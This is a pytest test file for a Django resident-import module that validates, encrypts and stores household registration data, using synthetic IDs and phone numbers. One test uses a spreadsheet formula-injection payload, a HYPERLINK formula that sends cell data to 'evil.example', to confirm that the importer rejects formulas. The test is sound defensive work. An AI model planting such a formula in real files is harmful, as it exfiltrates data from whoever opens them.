"""Resident import: file formats, row checks, both commit modes, idempotence, bad input,
no plain ID or phone left on disk, the operators' command.

The community is A1 of the `world` fixture: grid G01 has the estate 珞南一社区G01小区 with
building 1栋 (households unit 1, rooms 0101 and 0201) and a building 2栋 outside any estate.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import CommandError, call_command
from django.db import connection
from django.utils import translation
from openpyxl import Workbook

from gongzhi.core import crypto, spreadsheets
from gongzhi.core.models import AuditRecord
from gongzhi.core.roles import Role
from gongzhi.people import imports
from gongzhi.people.idcard import make_id
from gongzhi.people.models import ImportBatch, Membership, Resident, ResidentTag
from gongzhi.places.models import Household
from tests.conftest import make_user

HEADERS = [c.header for c in imports.COLUMNS]
B1 = "珞南一社区G01小区1栋"
B2 = "珞南一社区G01网格2栋"


@pytest.fixture(autouse=True)
def _english_and_private_var(settings, tmp_path):
    settings.LANGUAGE_CODE = "en"
    settings.VAR_DIR = tmp_path / "var"
    with translation.override("en"):
        yield


def ident(n: int, birth=dt.date(1980, 1, 2)) -> str:
    return make_id("420111", birth, n)  # odd n: male


def person(n: int, **over) -> dict:
    row = {
        "姓名": f"居民{n}",
        "证件类型": "",
        "证件号码": ident(n),
        "性别": "",
        "出生日期": "",
        "手机号": f"1390000{n:04d}",
        "楼栋": B1,
        "单元": "1",
        "室号": "0101" if n % 2 else "0201",
        "与户主关系": "户主" if n == 1 else "子女",
        "居住状态": "户籍",
        "迁入日期": "2020-05-01",
        "标签": "",
        "技能特长": "",
    }
    row.update(over)
    return row


def csv_bytes(rows: list[dict], encoding="utf-8", headers=HEADERS) -> bytes:
    lines = [",".join(headers)] + [",".join(str(r.get(h, "")) for h in headers) for r in rows]
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


def xlsx_bytes(rows: list[dict], headers=HEADERS) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(headers)
    for r in rows:
        sheet.append([r.get(h, "") for h in headers])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def run(world, data: bytes, name="residents.csv", mode="all_or_nothing", user=None):
    """Upload and commit as a community secretary of A1; returns the batch."""
    user = user or make_user(Role.COMMUNITY_SECRETARY, world.community_a1)
    batch = imports.start(world.community_a1, name, data, actor=user)
    if batch.status == ImportBatch.Status.VALIDATED:
        batch = imports.commit(batch, mode, actor=user)
    return batch


def nothing_written():
    return (
        Resident.objects.count() == 0
        and Membership.objects.count() == 0
        and ImportBatch.objects.count() == 0
        and not any((Path(settings.VAR_DIR) / "imports").glob("*"))
        and not AuditRecord.objects.filter(action=imports.AUDIT_ACTION).exists()
    )


# --- formats ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("encoding", "name"),
    [("utf-8", "a.csv"), ("utf-8-sig", "bom.csv"), ("gbk", "gbk.csv"), ("gb18030", "g.csv")],
)
def test_csv_encodings(world, encoding, name):
    batch = run(world, csv_bytes([person(1), person(2, 姓名="曾国藩")], encoding), name)
    assert batch.status == ImportBatch.Status.COMMITTED
    assert batch.created_count == 2
    zeng = Resident.objects.get(name="曾国藩")
    assert zeng.name_initials == "zgf"
    assert zeng.gender == "F" and zeng.birth_date == dt.date(1980, 1, 2)


def test_xlsx_with_dates_and_numbers_as_cells(world):
    rows = [person(1, 出生日期=dt.datetime(1980, 1, 2), 迁入日期=dt.date(2020, 5, 1), 单元=1)]
    rows[0]["手机号"] = 13900000001  # a number cell
    batch = run(world, xlsx_bytes(rows), "r.xlsx")
    assert batch.status == ImportBatch.Status.COMMITTED, batch.errors
    resident = Resident.objects.get()
    assert resident.phone_masked == "139****0001"
    assert crypto.decrypt(resident.phone_encrypted) == "13900000001"
    member = Membership.objects.get(resident=resident)
    assert member.moved_in == dt.date(2020, 5, 1) and member.relation == "head"


def test_written_rows_have_every_derived_field(world):
    tagged = person(3, 标签="独居，低保、残疾", 技能特长="理发", 居住状态="流动", 与户主关系="配偶")
    batch = run(world, csv_bytes([tagged]))
    assert batch.created_count == 1
    r = Resident.objects.get()
    household = Household.objects.get(pk=r.household_id)
    assert (household.building.name, household.unit_no, household.room_no) == ("1栋", "1", "0101")
    assert r.place_path == household.place_path
    assert r.id_index == crypto.blind_index("id", ident(3))
    assert r.id_masked == crypto.mask_id_number(ident(3))
    assert crypto.decrypt(r.id_encrypted) == ident(3)
    assert r.phone_index == crypto.blind_index("phone", "13900000003")
    assert (r.relation, r.residence_status, r.specialty) == ("spouse", "floating", "理发")
    assert set(ResidentTag.objects.values_list("tag", flat=True)) == {
        "living_alone",
        "low_income",
        "disabled",
    }


def test_headers_tolerate_spaces_full_width_and_order(world):
    headers = [f" {h} " for h in reversed(HEADERS)]
    headers[0] = "技能特长"  # plain
    headers[1] = "标　签"  # full-width space inside
    rows = [{f" {k} ": v for k, v in person(1).items()}]
    data = csv_bytes(
        [{h: rows[0].get(h, rows[0].get(f" {h.replace('　', '')} ", "")) for h in headers}],
        headers=headers,
    )
    batch = run(world, data)
    assert batch.created_count == 1


def test_building_rules(world):
    rows = [
        person(1, 楼栋="1栋"),  # ambiguous: every grid has a 1栋
        person(3, 楼栋=B2, 室号="0101"),  # a building outside any estate: grid name + name
        person(5, 楼栋="不存在的楼"),
        person(7, 室号="9999"),
        person(9, 楼栋="珞南一社区G02小区1栋", 室号="0201"),
    ]
    result = imports.check(world.community_a1, imports.read_file(csv_bytes(rows), "a.csv"))
    by_line = {r.line: [imports.render(m, p) for m, p in r.errors] for r in result.rows}
    assert "Several buildings in this community are called “1栋”" in by_line[2][0]
    assert "珞南一社区G01小区1栋" in by_line[2][0]
    assert by_line[3] == [] and by_line[6] == []
    assert by_line[4] == ["No building “不存在的楼” in this community."]
    assert by_line[5] == [f"Building {B1} has no room 1单元9999."]
    # A building of another community is unknown here.
    other = imports.check(
        world.community_a1,
        imports.read_file(csv_bytes([person(1, 楼栋="关山一社区G01小区1栋")]), "a.csv"),
    )
    assert other.errors == 1


# --- row errors --------------------------------------------------------------------------------


def bad_rows():
    good = ident(11)
    bad_check = good[:17] + ("0" if good[17] != "0" else "1")
    return [
        person(1),
        person(11, 证件号码=bad_check),
        person(13, 性别="女"),
        person(15, 出生日期="1990-01-01"),
        person(17, 手机号="12345"),
        person(19, 楼栋="火星1栋"),
        person(21, 证件号码=ident(1)),  # same as row 2
        person(23, 姓名=""),
        person(25, 证件类型="驾驶证"),
        person(27, 居住状态="暂住"),
        person(29, 标签="富豪"),
        person(31, 迁入日期="明年"),
        person(2),
    ]


EXPECTED = {
    3: "The check digit of this ID number is wrong; please check for a typo.",
    4: "The gender (女) does not match the ID number.",
    5: "The birth date (1990-01-01) does not match the ID number (1980-01-02).",
    6: "“*****” is not a mobile number (11 digits starting with 13 to 19).",
    7: "No building “火星1栋” in this community.",
    8: "The same document number is already in row 2 of this file.",
    9: "“姓名” is required.",
    10: "Unknown document type “驾驶证”.",
    11: "Unknown residence status “暂住”; write 户籍, 常住 or 流动.",
    12: "Unknown tag “富豪”.",
    13: "“迁入日期” is not a date: “明年”.",
}


def test_every_row_error_is_reported_in_the_preview(world):
    user = make_user(Role.COMMUNITY_WORKER, world.community_a1)
    batch = imports.start(world.community_a1, "mixed.csv", csv_bytes(bad_rows()), actor=user)
    assert batch.status == ImportBatch.Status.VALIDATED
    assert (batch.total_rows, batch.valid_rows, batch.error_rows) == (13, 2, 11)
    errors = {e["row"]: [imports.render(m, p) for m, p in e["messages"]] for e in batch.errors}
    assert errors == {line: [text] for line, text in EXPECTED.items()}
    assert Resident.objects.count() == 0  # the preview writes nothing
    # The stored errors never hold a plain ID or phone.
    stored = str(batch.errors)
    assert ident(1) not in stored and "13900000021" not in stored
    assert crypto.mask_id_number(ident(1)) in stored


def test_every_message_has_its_chinese_text():
    """Workers read the errors in Chinese: each msgid has a translation in i18n/import.json
    (or i18n/security_people.json, the spreadsheet guards) with the same placeholders (the
    catalog is filled from them by `make messages`)."""
    table = {}
    for name in ("import.json", "security_people.json"):
        table.update(json.loads((Path(settings.BASE_DIR) / "i18n" / name).read_text("utf-8")))
    msgids = [v for k, v in vars(imports.fileformat).items() if k[:2] in {"E_", "M_"}]
    msgids += [v for k, v in vars(spreadsheets).items() if k[:2] == "E_"]
    assert len(msgids) > 25
    for msgid in msgids:
        zh = table.get(msgid)
        assert zh, msgid
        assert sorted(re.findall(r"%\(\w+\)s", zh)) == sorted(re.findall(r"%\(\w+\)s", msgid))
        assert any("\u4e00" <= ch <= "\u9fff" for ch in zh)


def test_all_or_nothing_with_errors_writes_nothing(world):
    user = make_user(Role.COMMUNITY_SECRETARY, world.community_a1)
    batch = imports.start(world.community_a1, "mixed.csv", csv_bytes(bad_rows()), actor=user)
    with pytest.raises(imports.ImportRefused) as refused:
        imports.commit(batch, "all_or_nothing", actor=user)
    assert "11 rows have errors" in refused.value.message
    assert "nothing was written" in refused.value.message
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.VALIDATED
    assert Resident.objects.count() == 0 and Membership.objects.count() == 0
    assert not AuditRecord.objects.filter(action=imports.AUDIT_ACTION).exists()


def test_valid_only_writes_the_valid_rows(world):
    batch = run(world, csv_bytes(bad_rows()), mode="valid_only")
    assert batch.status == ImportBatch.Status.COMMITTED
    assert (batch.created_count, batch.error_rows) == (2, 11)
    assert set(Resident.objects.values_list("name", flat=True)) == {"居民1", "居民2"}
    assert Membership.objects.count() == 2
    assert not (Path(settings.VAR_DIR) / "imports" / f"{batch.pk}.bin").exists()
    (record,) = AuditRecord.objects.filter(action=imports.AUDIT_ACTION)
    assert record.changes["created"] == 2 and record.changes["errors"] == 11
    assert record.changes["community"] == world.community_a1.name
    assert record.changes["file"] == "residents.csv"


def test_a_person_of_another_community_is_refused(world):
    run(world, csv_bytes([person(1)]))
    b1 = make_user(Role.COMMUNITY_SECRETARY, world.community_b1)
    batch = imports.start(
        world.community_b1, "b.csv", csv_bytes([person(1, 楼栋="关山一社区G01小区1栋")]), actor=b1
    )
    assert batch.error_rows == 1
    assert batch.errors[0]["messages"][0][0] == imports.E_OTHER_COMMUNITY


# --- idempotence and updates -------------------------------------------------------------------


def test_reimport_changes_nothing(world):
    rows = [person(n, 标签="独居" if n == 1 else "") for n in range(1, 7)]
    data = csv_bytes(rows)
    first = run(world, data)
    assert first.created_count == 6
    before = list(Resident.objects.order_by("id").values())
    members = list(Membership.objects.order_by("id").values())
    tags = list(ResidentTag.objects.order_by("id").values())
    audits = AuditRecord.objects.count()

    second = run(world, data)
    assert (second.created_count, second.updated_count, second.unchanged_count) == (0, 0, 6)
    after = list(Resident.objects.order_by("id").values())
    for row in before + after:
        row.pop("id_encrypted"), row.pop("phone_encrypted")  # fresh nonces are not changes
    assert after == before
    assert list(Membership.objects.order_by("id").values()) == members
    assert list(ResidentTag.objects.order_by("id").values()) == tags
    # Only the batch's own record is new.
    assert AuditRecord.objects.count() == audits + 1
    assert AuditRecord.objects.order_by("-id").first().action == imports.AUDIT_ACTION


def test_updated_file_updates_people_found_by_id(world):
    run(world, csv_bytes([person(1), person(3), person(5, 标签="独居")]))
    original = Resident.objects.get(name="居民3")
    old_member = Membership.objects.get(resident=original)
    updated = [
        person(1),  # unchanged
        person(3, 姓名="单田芳", 手机号="13811112222", 楼栋=B2, 迁入日期="2024-03-01"),  # moves
        person(5, 标签="低保", 技能特长="修电器"),
        person(7),  # new
    ]
    batch = run(world, csv_bytes(updated))
    assert (batch.created_count, batch.updated_count, batch.unchanged_count) == (1, 2, 1)
    moved = Resident.objects.get(pk=original.pk)
    assert moved.name == "单田芳" and moved.name_initials == "stf"
    assert moved.phone_masked == "138****2222"
    assert crypto.decrypt(moved.phone_encrypted) == "13811112222"
    assert moved.household.building.name == "2栋"
    assert moved.place_path == moved.household.place_path
    old_member.refresh_from_db()
    assert old_member.moved_out == dt.date(2024, 3, 1)
    current = Membership.objects.get(resident=moved, moved_out__isnull=True)
    assert current.household_id == moved.household_id and current.moved_in == dt.date(2024, 3, 1)
    five = Resident.objects.get(name="居民5")
    assert list(five.tags.values_list("tag", flat=True)) == ["low_income"]
    assert five.specialty == "修电器"
    assert Resident.objects.count() == 4


def test_empty_optional_cells_keep_stored_values(world):
    run(world, csv_bytes([person(1, 标签="独居", 技能特长="书法")]))
    batch = run(world, csv_bytes([person(1, 手机号="", 标签="", 技能特长="", 居住状态="")]))
    assert batch.unchanged_count == 1
    r = Resident.objects.get()
    assert r.phone_masked == "139****0001" and r.specialty == "书法"
    assert r.residence_status == "registered"
    assert list(r.tags.values_list("tag", flat=True)) == ["living_alone"]


# --- bad input: clear messages, nothing written ------------------------------------------------


def start_error(world, data: bytes, name: str) -> str:
    user = make_user(Role.COMMUNITY_SECRETARY, world.community_a1)
    with pytest.raises(imports.ImportFileError) as failure:
        imports.start(world.community_a1, name, data, actor=user)
    return failure.value.message


def test_empty_file(world):
    assert start_error(world, b"", "a.csv") == "The file is empty."
    assert start_error(world, b"\r\n\r\n", "a.csv") == "The file is empty."
    assert start_error(world, csv_bytes([]), "a.csv") == (
        "The file has a header row but no residents below it."
    )
    assert nothing_written()


def test_wrong_headers_are_listed(world):
    headers = [h for h in HEADERS if h not in {"证件号码", "楼栋"}] + ["备注", "年龄"]
    message = start_error(world, csv_bytes([person(1)], headers=headers), "a.csv")
    assert "Missing: 证件号码、楼栋." in message
    assert "Unknown: 备注、年龄." in message
    assert nothing_written()


def test_corrupted_xlsx(world):
    good = xlsx_bytes([person(1)])
    for data in (b"PK\x03\x04 this is no workbook", good[: len(good) // 2], b"\x00" * 300):
        message = start_error(world, data, "broken.xlsx")
        assert message.startswith("The file cannot be read as an .xlsx workbook")
    assert start_error(world, b"\xd0\xcf\x11\xe0old", "old.xls").startswith(
        "Only .xlsx and .csv files"
    )
    assert nothing_written()


def test_oversize_file_refused_before_parsing(world, settings, monkeypatch):
    settings.IMPORT_MAX_BYTES = 1000
    calls = []
    monkeypatch.setattr(imports.parse, "_csv_rows", lambda data: calls.append(data))
    message = start_error(world, b"x" * 1001, "big.csv")
    assert message == "The file is 0 MB; the limit is 0 MB. Split it into smaller files."
    assert calls == []
    assert nothing_written()


def test_the_default_limit_refuses_a_50_mb_file():
    assert settings.IMPORT_MAX_BYTES == 20 * 1024 * 1024
    with translation.override("en"), pytest.raises(imports.ImportFileError) as failure:
        imports.check_size(50 * 1024 * 1024)
    assert failure.value.message == (
        "The file is 50 MB; the limit is 20 MB. Split it into smaller files."
    )
    imports.check_size(20 * 1024 * 1024)  # exactly the limit passes


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_cell_is_an_error_never_evaluated(world, fmt):
    formula = '=HYPERLINK("http://evil.example/?"&B2,"点击")'
    if fmt == "csv":  # a CSV cell is text: one that starts with "=" counts as a formula
        formula = "=1+1"
    rows = [person(1), person(3, 姓名=formula)]
    data = csv_bytes(rows) if fmt == "csv" else xlsx_bytes(rows)
    user = make_user(Role.COMMUNITY_SECRETARY, world.community_a1)
    batch = imports.start(world.community_a1, f"f.{fmt}", data, actor=user)
    assert batch.error_rows == 1
    (entry,) = batch.errors
    assert [imports.render(m, p) for m, p in entry["messages"]] == [
        "“姓名” contains a formula; formulas are not imported. Enter the value itself."
    ]
    with pytest.raises(imports.ImportRefused):
        imports.commit(batch, "all_or_nothing", actor=user)
    assert Resident.objects.count() == 0
    imports.commit(batch, "valid_only", actor=user)
    assert list(Resident.objects.values_list("name", flat=True)) == ["居民1"]


def test_id_number_typed_as_a_number_is_explained(world):
    rows = [person(1)]
    rows[0]["证件号码"] = float(ident(1)[:17] + "1")
    result = imports.check(world.community_a1, imports.read_file(xlsx_bytes(rows), "a.xlsx"))
    assert result.rows[0].errors == [(imports.E_ID_NUMERIC, {})]


# --- protection at rest ------------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)
def test_no_plain_id_or_phone_on_disk_after_an_import(world, settings):
    rows = [person(n) for n in range(1, 9)]
    batch = run(world, csv_bytes(rows), mode="valid_only")
    assert batch.created_count == 8
    # A second upload waits in var/imports (encrypted) while the first is committed.
    user = make_user(Role.COMMUNITY_SECRETARY, world.community_a1)
    pending = imports.start(world.community_a1, "p.csv", csv_bytes([person(41)]), actor=user)
    blobs = [p.read_bytes() for p in (Path(settings.VAR_DIR) / "imports").glob("*")]
    assert len(blobs) == 1
    if connection.vendor == "sqlite":
        connection.close()  # checkpoint the WAL into the main file
        db_file = Path(connection.settings_dict["NAME"])
        blobs += [p.read_bytes() for p in db_file.parent.glob(db_file.name + "*")]
        assert len(blobs) >= 2
    else:  # PostgreSQL: every text column of the tables the import writes
        for model in (Resident, Membership, ResidentTag, ImportBatch, AuditRecord):
            blobs += [str(row).encode() for row in model.objects.values_list()]
    secrets = [ident(n) for n in (*range(1, 9), 41)] + [f"1390000{n:04d}" for n in range(1, 9)]
    for blob in blobs:
        for secret in secrets:
            for encoded in (secret.encode(), secret.encode("utf-16-le")):
                assert encoded not in blob
    assert Resident.objects.filter(id_masked=crypto.mask_id_number(ident(1))).count() == 1
    assert imports.load_file(pending).startswith("姓名".encode())


def test_bulk_sealing_matches_crypto_protect():
    sealer = imports._Sealer()
    plains = [ident(1), ident(3), "13900000001", "E12345678"]
    encrypted = sealer.protector.encrypt_many(plains)
    assert [crypto.decrypt(e) for e in encrypted] == plains
    assert len(set(encrypted)) == len(plains)  # fresh nonces
    for kind in ("id", "phone"):
        for plain in plains:
            assert sealer.index(kind, plain) == crypto.blind_index(kind, plain)
    row = imports.Row(line=2, cells=(), id_number=ident(1), phone="13900000001")
    row.id_index = sealer.index("id", ident(1))
    sealer.seal([row])
    reference = (crypto.protect("id", ident(1)), crypto.protect("phone", "13900000001"))
    assert crypto.decrypt(row.id_sealed[0]) == ident(1)
    assert row.id_sealed[1:] == reference[0][1:]
    assert row.phone_sealed[1:] == reference[1][1:]


def test_a_waiting_upload_survives_a_new_field_key_version(world, settings):
    settings.FIELD_ENCRYPTION_KEY = "1:first-secret-0123456789"
    user = make_user(Role.COMMUNITY_SECRETARY, world.community_a1)
    data = csv_bytes([person(1)])
    batch = imports.start(world.community_a1, "a.csv", data, actor=user)
    settings.FIELD_ENCRYPTION_KEY = "2:second-secret-0123456789,1:first-secret-0123456789"
    assert imports.load_file(batch) == data


def test_stored_file_is_encrypted_and_bound_to_its_batch(world):
    user = make_user(Role.COMMUNITY_SECRETARY, world.community_a1)
    data = csv_bytes([person(1)])
    batch = imports.start(world.community_a1, "a.csv", data, actor=user)
    raw = imports.file_path(batch).read_bytes()
    assert ident(1).encode() not in raw
    assert imports.load_file(batch) == data
    imports.discard(batch, actor=user)
    assert not imports.file_path(batch).exists()


def test_expired_uploads_are_discarded(world, settings):
    user = make_user(Role.COMMUNITY_SECRETARY, world.community_a1)
    batch = imports.start(world.community_a1, "a.csv", csv_bytes([person(1)]), actor=user)
    assert imports.purge_expired() == 0
    ImportBatch.objects.filter(pk=batch.pk).update(
        created_at=batch.created_at - dt.timedelta(hours=settings.IMPORT_KEEP_HOURS + 1)
    )
    assert imports.purge_expired() == 1
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.DISCARDED
    assert not imports.file_path(batch).exists()


# --- background --------------------------------------------------------------------------------


def test_large_files_run_as_tasks(world, settings, monkeypatch):
    settings.IMPORT_BACKGROUND_ROWS = 3
    from gongzhi.people import tasks

    ran = []
    for name in ("check_import", "commit_import"):
        original = getattr(tasks, name)
        monkeypatch.setattr(tasks, name, lambda pk, _o=original, _n=name: ran.append(_n) or _o(pk))
    monkeypatch.setattr(imports.checks, "CHUNK", 2)
    monkeypatch.setattr(imports.writing, "CHUNK", 2)
    monkeypatch.setattr(imports.checks, "PROGRESS_EVERY", 2)
    rows = [person(n) for n in range(1, 8)] + [person(9, 楼栋="火星")]
    batch = run(world, csv_bytes(rows), mode="valid_only")
    assert ran == ["check_import", "commit_import"]
    assert batch.background
    assert (batch.status, batch.created_count, batch.error_rows) == ("committed", 7, 1)
    assert batch.progress == batch.total_rows == 8


def test_small_files_run_inline(world, monkeypatch):
    from gongzhi.people import tasks

    monkeypatch.setattr(tasks, "check_import", lambda pk: pytest.fail("queued"))
    monkeypatch.setattr(tasks, "commit_import", lambda pk: pytest.fail("queued"))
    batch = run(world, csv_bytes([person(1)]))
    assert not batch.background and batch.created_count == 1


def test_background_check_reports_a_file_error(world, settings, monkeypatch):
    settings.IMPORT_BACKGROUND_ROWS = 1
    monkeypatch.setattr(imports.parse, "MAX_ROWS", 2)
    monkeypatch.setattr(imports.checks, "MAX_ROWS", 2)
    user = make_user(Role.COMMUNITY_SECRETARY, world.community_a1)
    batch = imports.start(
        world.community_a1, "a.csv", csv_bytes([person(1), person(3), person(5)]), actor=user
    )
    assert batch.background and batch.status == ImportBatch.Status.FAILED
    assert imports.render(*batch.file_error) == (
        "The file has more than 2 rows; split it into smaller files."
    )
    assert not imports.file_path(batch).exists()
    with pytest.raises(imports.ImportRefused):
        imports.commit(batch, "valid_only", actor=user)
    assert Resident.objects.count() == 0


def test_a_person_registered_between_check_and_write(world, monkeypatch):
    user = make_user(Role.COMMUNITY_SECRETARY, world.community_a1)
    batch = imports.start(
        world.community_a1, "a.csv", csv_bytes([person(1), person(3)]), actor=user
    )
    original_check = imports.check

    def check_then_someone_registers(community, parsed, progress=None):
        result = original_check(community, parsed, progress)
        monkeypatch.setattr(imports.batches, "check", original_check)
        run(world, csv_bytes([person(3)]))  # another worker, in between
        return result

    monkeypatch.setattr(imports.batches, "check", check_then_someone_registers)
    with pytest.raises(imports.ImportRefused, match="registered by someone else"):
        imports.commit(batch, "all_or_nothing", actor=user)
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.VALIDATED
    assert list(Resident.objects.values_list("name", flat=True)) == ["居民3"]
    batch = imports.commit(batch, "all_or_nothing", actor=user)
    assert (batch.created_count, batch.unchanged_count) == (1, 1)


def test_commit_checks_again_and_refuses_what_changed(world):
    user = make_user(Role.COMMUNITY_SECRETARY, world.community_a1)
    batch = imports.start(
        world.community_a1, "a.csv", csv_bytes([person(1), person(2)]), actor=user
    )
    assert batch.error_rows == 0
    Household.objects.filter(room_no="0201", building__name="1栋").delete()  # room of person 2
    with pytest.raises(imports.ImportRefused, match="1 rows have errors"):
        imports.commit(batch, "all_or_nothing", actor=user)
    batch.refresh_from_db()
    assert (batch.status, batch.error_rows) == ("validated", 1)
    assert Resident.objects.count() == 0
    batch = imports.commit(batch, "valid_only", actor=user)
    assert batch.created_count == 1 and Resident.objects.count() == 1


# --- the operators' command --------------------------------------------------------------------


def test_command_imports_and_prints_counts(world, tmp_path):
    path = tmp_path / "r.csv"
    path.write_bytes(csv_bytes([person(1), person(3), person(5, 楼栋="火星")], "gbk"))
    out = io.StringIO()
    call_command(
        "import_residents", str(path), "--community", "420111002001", "--dry-run", stdout=out
    )
    text = out.getvalue()
    assert "3 rows: 2 valid, 1 with errors, 2 new." in text
    assert "row 4: No building “火星” in this community." in text
    assert "Dry run: nothing written." in text
    assert Resident.objects.count() == 0 and ImportBatch.objects.count() == 0

    with pytest.raises(CommandError, match="1 rows have errors"):
        call_command("import_residents", str(path), "--community", "420111002001", stdout=out)
    assert Resident.objects.count() == 0

    out = io.StringIO()
    call_command(
        "import_residents",
        str(path),
        "--community",
        "420111002001",
        "--mode",
        "valid",
        stdout=out,
    )
    assert "Created 2, updated 0, unchanged 0." in out.getvalue()
    assert Resident.objects.count() == 2
    record = AuditRecord.objects.get(action=imports.AUDIT_ACTION)
    assert record.actor_id is None and "import_residents" in record.reason


def test_command_refuses_bad_input(world, tmp_path):
    empty = tmp_path / "e.csv"
    empty.write_bytes(b"")
    with pytest.raises(CommandError, match="The file is empty."):
        call_command("import_residents", str(empty), "--community", "420111002001")
    with pytest.raises(CommandError, match="No community"):
        call_command("import_residents", str(empty), "--community", "999")
    with pytest.raises(CommandError, match="No such file"):
        call_command("import_residents", str(tmp_path / "nope.csv"), "--community", "999")
